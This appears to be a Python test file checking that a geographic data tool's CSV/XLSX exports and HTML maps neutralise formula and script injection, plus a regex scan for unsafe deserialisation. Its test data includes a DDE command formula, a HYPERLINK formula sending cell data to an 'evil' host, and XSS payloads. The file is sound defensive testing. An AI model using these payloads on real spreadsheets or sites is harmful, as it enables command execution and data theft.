"""Hostile text on the way out: formula injection in tables, script injection in maps and
briefings, and no code path that unpickles or evaluates data."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from geo import tables
from geo.settings import REPO_ROOT

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@HYPERLINK(\"http://x\")", "\t=1+1",
            "\r=1+1", "a\n=1+1", '=HYPERLINK("http://evil/?"&A1,"click")']
#: What a spreadsheet must receive: a leading ' on text that starts like a formula; a newline
#: inside a (quoted) cell is not a formula.
SAFE = [f if f == "a\n=1+1" else "'" + f for f in FORMULAS]
SCRIPT = "</script><script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(2)>'


def test_csv_export_neutralises_formulas_and_keeps_numbers():
    frame = pd.DataFrame({"name": FORMULAS, "officers": list(range(-3, len(FORMULAS) - 3))})
    keep = ~frame["name"].str.contains("\r")  # a bare CR: see the next test
    frame = frame[keep]
    text = tables.to_csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "officers"]
    assert [r[0] for r in rows[1:]] == [v for v, k in zip(SAFE, keep, strict=True) if k]
    assert [r[1] for r in rows[1:]] == [str(n) for n in frame["officers"]]


def test_csv_export_quotes_a_bare_carriage_return():
    text = tables.to_csv_bytes(pd.DataFrame({"name": ["ok", "x\r=1+1"]})).decode("utf-8-sig")
    # Excel and LibreOffice treat an unquoted CR as a row break, like csv does here
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name"], ["ok"], ["x\r=1+1"]], rows


def test_xlsx_export_stores_formulas_as_text():
    frame = pd.DataFrame({"=name": FORMULAS, "officers": range(len(FORMULAS))})
    wb = openpyxl.load_workbook(io.BytesIO(tables.to_xlsx_bytes(frame)))
    ws = wb.active
    assert ws["A1"].value == "'=name"
    cells = [ws.cell(row=i, column=1) for i in range(2, len(FORMULAS) + 2)]
    assert all(c.data_type == "s" for c in cells)
    # openpyxl reads a CR inside a cell back as LF; what matters is text, not a formula
    assert [c.value.replace("\r", "\n") for c in cells] == [v.replace("\r", "\n") for v in SAFE]
    assert ws["B2"].data_type == "n"


@pytest.fixture
def hostile_coverage(store):
    from geo.coverage import load_coverage

    cov = load_coverage("Điện Biên", vintage="2020", store=store)
    cov.loc[cov.index[:3], "name"] = SCRIPT
    cov.loc[cov.index[3:6], "district"] = IMG
    cov["note"] = SCRIPT
    return cov


def _assert_inert(html: str) -> None:
    assert "<script>alert(1)" not in html
    assert "<img src=x onerror" not in html
    # a name inside embedded JSON must not close the surrounding <script> block
    assert html.count("</script><script>alert") == 0


def test_map_html_escapes_names_districts_and_notes(hostile_coverage):
    from geo.maps import build_coverage_map

    html = build_coverage_map(hostile_coverage, tiles="offline").get_root().render()
    assert "alert(1)" in html  # the names are there, escaped
    _assert_inert(html)


def test_html_briefing_escapes_title_marking_and_names(hostile_coverage, tmp_path):
    from geo.export import export_briefing

    path = export_briefing(hostile_coverage, fmt="html", out=tmp_path / "b.html",
                           metric="total_police", title=SCRIPT, marking=IMG)
    html = path.read_text(encoding="utf-8")
    assert "alert(1)" in html and "alert(2)" in html
    _assert_inert(html)


UNSAFE = re.compile(r"import pickle|from pickle|pickle\.loads?\(|read_pickle|marshal\.loads?\("
                    r"|shelve\.open|(?<![\w.])eval\(|(?<![\w.])exec\(|yaml\.load\(|unsafe_load"
                    r"|allow_pickle\s*=\s*True|__import__\(")


def test_no_code_unpickles_or_evaluates_data():
    files = sorted((REPO_ROOT / "geo").glob("*.py")) + sorted((REPO_ROOT / "pages").glob("*.py"))
    files += [p for p in [REPO_ROOT / "app.py"] if p.exists()]
    assert len(files) > 10
    hits = [f"{p.name}:{i}: {line.strip()}" for p in files
            for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
            if UNSAFE.search(line)]
    assert hits == []


def test_unsafe_pattern_catches_what_it_should():
    for bad in ("import pickle", "pd.read_pickle(f)", "eval(text)", "np.load(f, allow_pickle=True)",
                "yaml.load(s)"):
        assert UNSAFE.search(bad), bad
    for fine in ("literal_eval_free = 1", "model.evaluate(x)", "# no pickles here"):
        assert not UNSAFE.search(fine), fine
